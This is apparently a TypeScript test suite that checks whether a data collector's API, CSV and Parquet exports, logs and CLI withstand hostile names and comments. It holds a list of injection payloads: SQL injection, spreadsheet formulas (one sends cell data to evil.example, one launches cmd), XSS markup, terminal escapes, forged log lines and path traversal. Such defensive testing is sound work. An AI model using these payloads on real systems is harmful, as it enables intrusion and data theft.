// Names and texts from outside that try to be something else: SQL, formulas, markup, lines.

import { readFileSync } from "node:fs";
import { join } from "node:path";
import { DuckDBInstance } from "@duckdb/node-api";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { ApiServer } from "../../../collector/api/api-server.ts";
import { csvOf } from "../../../collector/api/export-text.ts";
import type { SamplePiece, SampleSlice, SamplesPort } from "../../../collector/samples-port.ts";
import { auditLine } from "../../../common/runtime/audit-chain.ts";
import { runCommand } from "../../helpers/run-command.ts";
import { beganMs, hourMs } from "../store/known-store.ts";
import { PeopleRig } from "./people-rig.ts";

/** As tag, unit, lot and comment; each is bad for somebody. */
const nasty = [
	"'; DROP TABLE sample; --",
	'" OR 1=1; DELETE FROM lot; --',
	"x') UNION SELECT value FROM meta --",
	'=HYPERLINK("http://evil.example?"&A1,"x")',
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1)",
	"<img src=x onerror=alert(1)>",
	"</script><script>alert(1)</script>",
	"\u001b[2J\u001b]0;owned\u0007",
	'line\n{"level":"fatal","msg":"forged"}\r\n',
	"right\u202eto left",
	"__proto__",
	"constructor",
	"%00%2e%2e/../../etc/passwd",
	"ａ\u0000b",
];

let rig: PeopleRig;
let server: ApiServer;

beforeAll(async () => {
	rig = new PeopleRig();
	for (const name of nasty) {
		rig.known.series(name, name, "String");
		rig.known.record(name, [{ tag: name, atMs: beganMs, value: name }]);
	}
	rig.known.commit({
		lots: nasty.map((lot) => ({ lot, openedMs: beganMs, closedMs: undefined, observedWhole: true })),
		visits: nasty.map((name) => ({
			...{ unit: name, batch: name, lot: name, recipe: name, startObserved: true },
			...{ fromMs: beganMs, toMs: beganMs + hourMs },
		})),
	});
	await rig.start();
	server = await rig.server("writing");
});
afterAll(async () => await rig.stop());

const base = () => `http://127.0.0.1:${server.port}`;
const get = async (path: string, query: Record<string, string>, expected = 200) => {
	const response = await fetch(`${base()}/api/v1/${path}?${new URLSearchParams(query)}`, {
		headers: { authorization: `Bearer ${rig.tokens.get("quality") as string}` },
	});
	expect([path, query, response.status]).toEqual([path, query, expected]);
	return response;
};
const post = async (path: string, body: object) =>
	await fetch(`${base()}/api/v1/${path}`, {
		method: "POST",
		headers: {
			...{ "content-type": "application/json", "x-pilotline": "1" },
			authorization: `Bearer ${rig.tokens.get("quality") as string}`,
		},
		body: JSON.stringify(body),
	});
const json = async (path: string, query: Record<string, string>, expected = 200) =>
	(await (await get(path, query, expected)).json()) as Record<string, unknown>;

/** Rows of RFC 4180. */
function cellsOf(text: string): string[][] {
	const rows: string[][] = [[]];
	for (const match of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(,|\r\n)/g)) {
		rows.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
		if (match[3] !== ",") rows.push([]);
	}
	return rows.slice(0, -1);
}

/** Every table with its number of rows, and the schema as text. */
function contents(): unknown {
	const { db } = rig.known.file;
	const tables = db.prepare("SELECT name, sql FROM sqlite_master ORDER BY name").all();
	return tables.map(({ name, sql }) => [
		...[name, sql],
		/^CREATE TABLE/.test(String(sql))
			? db.prepare(`SELECT count(*) AS n FROM "${String(name).replaceAll('"', '""')}"`).get()?.n
			: undefined,
	]);
}

test("SQL in names finds exactly what has that name, and changes nothing", async () => {
	const before = contents();
	for (const name of nasty) {
		const { pieces } = await json("samples", {
			unit: name,
			tag: name,
			from: String(beganMs),
			to: String(beganMs),
		});
		expect(pieces).toMatchObject([{ unit: name, tag: name, value: [name] }]);
		expect(((await json("samples", { lot: name })).pieces as object[]).length).toBe(1);
		await get("buckets", { lot: name, width_s: "60" });
		await get("trend", { unit: name, tag: name, to: String(beganMs + hourMs) });
		await get("reconciliation", { lot: name });
		await get("chart-signals", { lot: name });
		expect((await json("materials", { limit: "500" })).materials).toEqual([]);
		expect(await json("material", { lot: name }, 404)).toMatchObject({ error: { code: "LOT_UNKNOWN" } });
		expect(await json("genealogy", { id: name }, 404)).toMatchObject({
			error: { code: "GENEALOGY_NOT_READ" },
		});
		expect(await json("comments", { lot: name })).toEqual({ comments: [] });
		expect(await json("comments", { occurrence: name })).toEqual({ comments: [] });
	}
	const lots = (await json("lots", { limit: "500" })).lots as { lot: string }[];
	expect(lots.map(({ lot }) => lot).toSorted()).toEqual(["L1", ...nasty].toSorted());
	expect(contents()).toEqual(before);
});

test("a Parquet file holds names as they are", async () => {
	const name = nasty[0] as string;
	const file = join(rig.known.directory, "export.parquet");
	const outcome = await runCommand(
		process.execPath,
		[
			"--disable-warning=ExperimentalWarning",
			"cli/main.ts",
			"export",
			"--api",
			base(),
			"--lot",
			name,
			"--format",
			"parquet",
			"--output",
			file,
		],
		{ cwd: process.cwd() },
	);
	expect([outcome.code, outcome.stderr]).toEqual([0, ""]);
	const duck = await (await DuckDBInstance.create()).connect();
	const rows = await duck.runAndReadAll(`SELECT unit, tag, tvalue FROM read_parquet('${file}')`);
	expect(rows.getRows()).toEqual([[name, name, name]]);
});

describe("CSV", () => {
	const formula = /^[=+\-@\t\r\n＝＋－＠]/;

	test("no text cell of an export begins a formula, and each can be had back", async () => {
		for (const name of nasty) {
			const text = await (await get("export", { lot: name, format: "csv" })).text();
			const [, row] = cellsOf(text) as [string[], string[]];
			for (const cell of row.slice(2)) expect(formula.test(cell), cell).toBe(false);
			const stored = (cell: string | undefined) => cell?.replace(/^'/, "");
			expect([row[2], row[3], row[4]].map(stored)).toEqual([name, name, name]);
		}
	});

	test("numbers stay numbers, below zero too, and a text that is one stays as it is", async () => {
		const values = [
			-5,
			-1.5e-300,
			Number.NaN,
			"-9007199254740993",
			"-Infinity",
			"-5-5",
			"'quoted",
			"=1",
		] as const;
		const slice: SampleSlice = {
			atMs: values.map(() => beganMs),
			restTicks: values.map(() => 0),
			serverLagTicks: values.map(() => null),
			status: values.map(() => 0),
			value: [...values],
			nextMs: undefined,
		};
		const samples = { slice: async () => slice } as unknown as SamplesPort;
		let text = "";
		for await (const part of csvOf(samples, [{ unit: "U", tag: "T", eu: "-", fromMs: 0 } as SamplePiece]))
			text += part;
		expect(
			text
				.trimEnd()
				.split("\r\n")
				.slice(1)
				.map((line) => line.split(",").slice(4, 7)),
		).toEqual([
			["-5", "0", "'-"],
			["-1.5e-300", "0", "'-"],
			["NaN", "0", "'-"],
			["-9007199254740993", "0", "'-"],
			["-Infinity", "0", "'-"],
			["'-5-5", "0", "'-"],
			["''quoted", "0", "'-"],
			["'=1", "0", "'-"],
		]);
	});
});

test("comments with markup, SQL and formulas are told as they were written; the record stays one line each", async () => {
	const written = nasty.filter((name) => !/[\p{Cc}\u202e]/u.test(name));
	for (const text of written) expect((await post("comments", { lot: text, text })).status).toBe(200);
	for (const lot of written)
		expect(
			((await json("comments", { lot })).comments as { text: string }[]).map(({ text }) => text),
		).toEqual([lot]);
	// Lots may hold what comments may not.
	for (const lot of nasty) expect((await post("comments", { lot, text: "seen" })).status).toBe(200);
	const { entries } = await json("audit", { limit: "1000" });
	const lines = (entries as never[]).map((entry) => auditLine(entry));
	for (const line of lines) expect(line).not.toMatch(/\p{Cc}/u);
	expect((entries as { subject: string }[]).filter(({ subject }) => nasty.includes(subject))).toHaveLength(
		nasty.length + written.length,
	);
});

test("what somebody types as a name makes no line of the log, and no header", async () => {
	for (const name of nasty) await post("login", { name, password: "x" });
	const refused = rig.logged.filter((line) => line.includes("login refused"));
	expect(refused.length).toBeGreaterThan(5);
	for (const line of rig.logged) {
		expect(line.slice(0, -1)).not.toMatch(/[^\P{Cc}\u007f-\u009f]/u);
		expect(JSON.parse(line).msg).not.toBe("forged");
	}
});

test("the commands show control characters, and do not send them to the terminal", async () => {
	rig.known.commit({
		gaps: nasty.map((device, index) => ({
			...{ id: `gap-${index}`, edgeNode: 1, device, tags: [device], fromMs: beganMs, toMs: beganMs + 1 },
			...{ cause: "agent_down" as const, backfilled: false, noticedMs: beganMs },
		})),
	});
	const outcome = await runCommand(process.execPath, ["cli/main.ts", "gaps", "--api", base()], {
		cwd: process.cwd(),
	});
	expect(outcome.code).toBe(0);
	expect(outcome.stdout.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\u202e]/u);
	expect(outcome.stdout).toContain("\\u001b[2J");
	expect(outcome.stdout.trimEnd().split("\n")).toHaveLength(nasty.length + 1);
});

test("secrets are nowhere in the store, the log or the record", async () => {
	const stored = readFileSync(rig.known.path).toString("latin1");
	for (const token of rig.tokens.values()) {
		expect(stored.includes(token)).toBe(false);
		expect(rig.logged.join("").includes(token)).toBe(false);
	}
	expect(stored.includes("$scrypt$")).toBe(false);
});
